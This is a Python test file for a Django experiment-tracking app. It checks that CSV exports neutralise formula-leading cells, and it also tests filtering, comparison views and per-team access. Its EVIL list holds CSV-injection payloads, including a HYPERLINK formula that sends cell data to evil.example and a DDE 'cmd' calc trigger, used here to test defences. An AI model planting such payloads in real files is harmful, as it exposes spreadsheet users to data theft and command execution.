"""Experiments side by side, and every table as a CSV download that a spreadsheet opens safely (formula-leading
cells defused against CSV injection) (issue 19, "manage and find")."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="') and response["Content-Disposition"].endswith('.csv"')
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_a_cell_that_a_spreadsheet_would_run_is_defused_and_numbers_stay_numbers():
    from webapp.apikit.csvfiles import csv_text, safe_cell

    for text in EVIL:
        assert safe_cell(text) == "'" + text
    assert safe_cell(-1.5) == -1.5 and safe_cell(0) == 0 and safe_cell(None) == "" and safe_cell("plain") == "plain"
    assert safe_cell("a\x00b") == "ab" and safe_cell(True) == "true"
    rows = list(csv.reader(io.StringIO(csv_text(["name", "value"], [[EVIL[0], -3], ["x,\"y\"\nz", 2.5]]))))
    assert rows == [["name", "value"], ["'" + EVIL[0], "-3"], ["x,\"y\"\nz", "2.5"]]


def test_the_candidates_of_an_experiment_as_csv(world, client_for):
    from webapp.studio.models import Candidate

    Candidate.objects.filter(pk=world["child"].pk).update(mutation=EVIL[0], reason=EVIL[3])
    rows = read_csv(client_for(world["dave"]).get(f"/experiments/{world['experiment'].pk}/candidates.csv"))
    header, body = rows[0], rows[1:]
    assert header[:6] == ["index", "name", "generation", "parent", "mutation", "status"]
    assert [r[1] for r in body] == ["c0000", "c0001"]
    child = dict(zip(header, body[1]))
    assert child["mutation"] == "'" + EVIL[0] and child["reason"] == "'" + EVIL[3]
    assert child["parent"] == "c0000" and child["accuracy"] == "0.75"
    assert client_for(world["charlie"]).get(f"/experiments/{world['experiment'].pk}/candidates.csv").status_code == 404


def test_the_experiment_list_as_csv_keeps_its_filters(world, client_for):
    from webapp.studio.models import Experiment

    Experiment.objects.filter(pk=world["experiment"].pk).update(name=EVIL[1])
    client = client_for(world["bob"])
    rows = read_csv(client.get("/experiments/export.csv"))
    assert rows[0][:3] == ["id", "name", "team"] and rows[1][1] == "'" + EVIL[1]
    assert len(read_csv(client.get("/experiments/export.csv", {"family": "evanet"}))) == 1  # the header only
    bad = client.get("/experiments/export.csv", {"status": "bogus"})
    assert bad.status_code == 400 and "is not one of" in bad.content.decode()
    assert len(read_csv(client_for(world["charlie"]).get("/experiments/export.csv"))) == 1  # another team's: none


def test_the_leaderboard_as_csv(world, client_for):
    from webapp.studio.models import Candidate

    Candidate.objects.filter(pk=world["parent"].pk).update(mutation=EVIL[2])
    client = client_for(world["bob"])
    rows = read_csv(client.get("/leaderboard/export.csv", {"sort": "-accuracy"}))
    header = rows[0]
    by_name = {r[1]: dict(zip(header, r)) for r in rows[1:]}
    assert [r[1] for r in rows[1:]] == ["c0001", "c0000"]
    assert by_name["c0000"]["mutation"] == "'-2+3" and by_name["c0001"]["experiment"] == "alpha"
    assert client.get("/leaderboard/export.csv", {"sort": "nonsense"}).status_code == 400
    assert 'id="leaderboard-csv"' in client.get("/leaderboard/").content.decode()


def test_two_experiments_side_by_side_with_their_curves(world, client_for):
    from django.utils import timezone

    from archsearch.config import SearchConfig
    from webapp.studio import services
    from webapp.studio.models import Candidate, Experiment

    start = timezone.now() - timedelta(minutes=10)
    Experiment.objects.filter(pk=world["experiment"].pk).update(started_at=start, best_candidate=world["child"])
    Candidate.objects.filter(pk=world["parent"].pk).update(finished_at=start + timedelta(seconds=30))
    Candidate.objects.filter(pk=world["child"].pk).update(finished_at=start + timedelta(seconds=90))
    other = services.create_experiment(team=world["a"], user=world["alice"], name="beta", dataset=world["dataset"],
                                       config=SearchConfig(family="tvn", population=4, rounds=2), start=False)
    client = client_for(world["dave"])
    response = client.get("/experiments/compare/", {"ids": f"{world['experiment'].pk},{other.pk}"})
    assert response.status_code == 200
    html = response.content.decode()
    assert ">alpha</a></th>" in html and ">beta</a></th>" in html and "Best accuracy" in html and "population" in html
    boot = json.loads(html.split('id="compare-boot" type="application/json">')[1].split("</script>")[0])
    assert boot[0]["by_candidates"] == [{"x": 1, "y": 0.5}, {"x": 2, "y": 0.75}]
    assert boot[0]["by_time"] == [{"x": 30.0, "y": 0.5}, {"x": 90.0, "y": 0.75}]
    assert boot[1] == {"name": "beta", "by_candidates": [], "by_time": []}
    rows = read_csv(client.get("/experiments/compare.csv", {"ids": [world["experiment"].pk, other.pk]}))
    table = {r[0]: r[1:] for r in rows}
    assert rows[0] == ["", "alpha", "beta"]
    assert table["Best accuracy"] == ["0.75", ""] and table["population"] == ["2", "4"]


def test_compare_refuses_what_it_cannot_show(world, client_for):
    client = client_for(world["bob"])
    assert client.get("/experiments/compare/").status_code == 400
    for ids, message in (("1,x", "is not an experiment id"), (",".join(str(i) for i in range(1, 10)), "at most 8"),
                         ("9" * 30, "is not an experiment id")):
        response = client.get("/experiments/compare/", {"ids": ids})
        assert response.status_code == 400 and message in response.content.decode(), ids
    other_team = world["other_dataset"]  # team B's: its experiments (none here) and any unknown id look missing
    assert client.get("/experiments/compare/", {"ids": f"{world['experiment'].pk},{other_team.pk + 999}"}).status_code == 404
    assert client.get("/experiments/compare.csv", {"ids": "x"}).status_code == 400
